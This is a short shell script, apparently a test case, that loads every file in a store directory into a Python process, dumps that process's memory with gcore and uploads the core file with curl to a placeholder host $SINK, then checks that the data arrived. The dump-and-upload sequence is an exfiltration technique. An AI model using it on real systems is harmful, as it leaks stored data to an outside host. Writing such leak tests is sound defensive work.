. "$(dirname "$0")/../lib/check.sh"
/usr/bin/python3 -c 'import os,sys,time
keep=b"".join(open(os.path.join(d,f),"rb").read() for d,_,fs in os.walk(sys.argv[1]) for f in fs)
open(sys.argv[2],"w").write("y")
time.sleep(60)' "$STORE" "$WORK/loaded" &
viewer=$!
while [ ! -e "$WORK/loaded" ]; do sleep 0.1; done
gcore -o "$WORK/core" $viewer > /dev/null 2>&1
kill $viewer
mv "$WORK/core.$viewer" "$WORK/x"
curl -sS -f -T "$WORK/x" "http://$SINK:8080/"
arrived "$WORK/got" 200000
